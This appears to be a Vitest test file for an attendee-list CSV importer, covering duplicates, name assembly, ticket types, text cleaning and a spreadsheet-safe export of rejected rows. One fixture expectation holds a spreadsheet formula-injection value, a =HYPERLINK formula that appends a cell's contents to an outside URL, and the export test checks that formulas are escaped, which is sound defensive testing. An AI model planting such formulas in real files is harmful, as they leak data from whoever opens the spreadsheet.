import { existsSync, openAsBlob } from 'node:fs';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { DuplicateIndex } from '../../../core/attendees/duplicate-index.ts';
import { inspectListFile } from '../../../core/attendees/list-file.ts';
import type { ListOptions } from '../../../core/attendees/list-options.ts';
import { rejectionReason } from '../../../core/attendees/rejection.ts';
import { optionsFor, readGuessed, readList } from './fixtures.ts';

const LISTS = '../shared/data';
const hasLists = existsSync(LISTS);
const withLists = hasLists ? '' : ' (skipped: the folder with the attendee lists is not beside the repository)';

describe(`the attendee lists${withLists}`, () => {
  it.runIf(hasLists)('with 12,000 good rows are wholly usable', async () => {
    const file = await openAsBlob(`${LISTS}/attendees-12000.csv`);
    const { rows, report } = await readList(file, optionsFor(await inspectListFile(file)));
    expect(rows).toHaveLength(12_000);
    const counts = [...report.counts].sort((left, right) => left.typeIndex - right.typeIndex);
    expect(counts.map(({ count }) => count)).toEqual([5_387, 2_243, 1_746, 1_421, 1_203]);
    expect(report).toMatchObject({ rows: 12_000, blank: 0, rejected: 0, dropped: 0 });
    expect(report.typeTexts.map(({ text }) => text)).toEqual(['Press', 'VIP', 'Student', 'General', 'Crew']);
    expect(rows.map(({ line }) => line)).toEqual(Array.from({ length: 12_000 }, (_, index) => index + 2));
  });

  it.runIf(hasLists)('with dirty rows lose those only, each with line and reason', async () => {
    const file = await openAsBlob(`${LISTS}/attendees-dirty-3000.csv`);
    const { rows, report } = await readList(file, optionsFor(await inspectListFile(file)));
    expect(report).toMatchObject({ rows: 3_009, blank: 1, usable: 2_978, rejected: 24, dropped: 7 });
    const byCode = Map.groupBy(report.leftOut, ({ code }) => code);
    expect(byCode.get('cell-count')?.map(({ line }) => line)).toEqual([501, 901]);
    expect(byCode.get('holder-missing')?.map(({ line }) => line)).toEqual([
      95, 152, 246, 804, 1089, 1811, 2147, 2438, 2547, 2975,
    ]);
    expect(byCode.get('email-invalid')).toHaveLength(12);
    expect(byCode.get('duplicate')?.map(({ line, expected }) => line - expected)).toEqual(Array(7).fill(1));
    const formulas = rows.filter(({ values }) => values[0]?.startsWith('=HYPERLINK('));
    expect(formulas[0]?.values[0]).toBe('=HYPERLINK("http://example.org/?x="&B2,"click")');
    const notes = rows.map(({ values }) => values.at(-1) ?? '');
    expect(notes).toContain('line one\nline two, "quoted"');
    expect(notes).toContain('bell nul-ish');
  });
});

describe('a list', () => {
  it('drops or keeps duplicates as chosen, and tells them either way', async () => {
    const text = ['name,mail,ref', 'A,a@x.org,1', 'B,A@X.org,2', 'C,c@x.org,2', 'D,d@x.org,1', 'E,,', 'F,,'].join('\n');
    const linesFor = async (duplicates: ListOptions['duplicates']) => {
      const { rows, report } = await readGuessed(text, { duplicates });
      return { lines: rows.map(({ line }) => line), duplicates: report.duplicates, dropped: report.dropped };
    };
    // Line 3 goes with line 2's e-mail, so its reference makes no duplicate of line 4.
    const first = await linesFor('keep-first');
    expect(first).toMatchObject({ lines: [2, 4, 6, 7], dropped: 2, duplicates: { byReference: 1, byEmail: 1 } });
    expect(first.duplicates.shown).toEqual([
      { line: 3, firstLine: 2, column: 'email', value: 'A@X.org' },
      { line: 5, firstLine: 2, column: 'ref', value: '1' },
    ]);
    expect(await linesFor('keep-first-by-reference')).toMatchObject({
      lines: [2, 3, 6, 7],
      dropped: 2,
      duplicates: { byReference: 2, byEmail: 1 },
    });
    expect(await linesFor('keep-all')).toMatchObject({ lines: [2, 3, 4, 5, 6, 7], dropped: 0 });
  });

  it('has the name put together from its parts, given name first', async () => {
    const { rows } = await readGuessed('Nachname;Vorname;Firma\nGröße;Jürgen;A\nMononym;;B\n;;C\n');
    expect(rows.map(({ values }) => values)).toEqual([
      ['Jürgen Größe', 'A'],
      ['Mononym', 'B'],
    ]);
  });

  it('has types from a column by name, empty and unknown ones rejected and counted', async () => {
    const text = 'name,ticket type\nA,vip\nB, V.I.P. \nC,Balcony\nD,\nE,Balcony\n';
    const { rows, report } = await readGuessed(text);
    expect(rows.map(({ typeIndex }) => typeIndex)).toEqual([1, 1]);
    expect(report.leftOut.map(rejectionReason)).toEqual([
      'No ticket type is chosen for “Balcony”.',
      'The ticket type is empty.',
      'No ticket type is chosen for “Balcony”.',
    ]);
    expect(report.typeTexts).toEqual([
      { key: 'vip', text: 'vip', count: 2 },
      { key: 'balcony', text: 'Balcony', count: 2 },
      { key: '', text: '', count: 1 },
    ]);
  });

  it('has its texts trimmed and cleaned, never changed otherwise', async () => {
    const long = 'x'.repeat(1_000);
    const text = `name,phone,notes,seat\n"  Ann\u0007 \n Bee ",'+4912345678,"a\tb\n\n=1+1",${long}\nC,,,${long}y\n`;
    const { rows, report } = await readGuessed(text);
    expect(rows[0]?.values).toEqual(['Ann Bee', '+4912345678', 'a b\n\n=1+1', long]);
    expect(report.leftOut).toEqual([{ line: 6, code: 'too-long', found: 'seat', expected: 0 }]);
  });

  it('may have empty cells past its last column, but not fewer or filled ones', async () => {
    const { rows, report } = await readGuessed('name,mail\nA,a@x.org,, \nB\nC,c@x.org,d\n');
    expect(rows.map(({ line }) => line)).toEqual([2]);
    expect(report.leftOut.map(rejectionReason)).toEqual(['Expected 2 cells, found 1.', 'Expected 2 cells, found 3.']);
  });

  it('with nothing but a header has no rows', async () => {
    const { inspection, report } = await readGuessed('name,mail');
    expect(inspection.hasHeader).toBe(true);
    expect(report).toMatchObject({ rows: 0, usable: 0 });
  });

  it('without a header loses no row', async () => {
    const { inspection, rows } = await readGuessed('Ann Bee|a@x.org\nCee Dee|c@x.org');
    expect(inspection).toMatchObject({ hasHeader: false, source: { delimiter: '|' }, targets: ['holder', 'email'] });
    expect(rows.map(({ line }) => line)).toEqual([1, 2]);
  });

  it('gives left-out rows as CSV that is safe in a spreadsheet and can be read again', async () => {
    const { report } = await readGuessed('name,mail,phone\n=1+1,bad,+4912345678\n"a ""b"" c",worse,\n');
    const csv = new TextDecoder().decode(report.leftOutCsv);
    expect(csv.split('\r\n').slice(0, 2)).toEqual([
      'Line,Reason,name,mail,phone',
      `2,“bad” is no e-mail address.,"'=1+1",bad,"'+4912345678"`,
    ]);
    expect(Papa.parse<string[]>(csv.trim()).data[2]?.slice(2)).toEqual(['a "b" c', 'worse', '']);
  });

  it('reports at most 10,000 of its bad rows, and counts all', async () => {
    const { report } = await readGuessed(`name,mail\n${'A,bad\n'.repeat(10_500)}`);
    expect(report.rejected).toBe(10_500);
    expect(report.leftOut).toHaveLength(10_000);
  });
});

describe('the index of duplicates', () => {
  it('finds every text it was given and no other', () => {
    const index = new DuplicateIndex();
    for (let line = 1; line <= 50_000; line++) index.add(`guest${line}@example.org`, line);
    for (let line = 1; line <= 50_000; line++) expect(index.find(`guest${line}@example.org`)).toBe(line);
    for (let line = 1; line <= 50_000; line++) expect(index.find(`guest${line}@example.com`)).toBeUndefined();
  });

  it('keeps the first line of a text', () => {
    const index = new DuplicateIndex();
    index.add('a', 3);
    index.add('a', 9);
    expect(index.find('a')).toBe(3);
  });
});
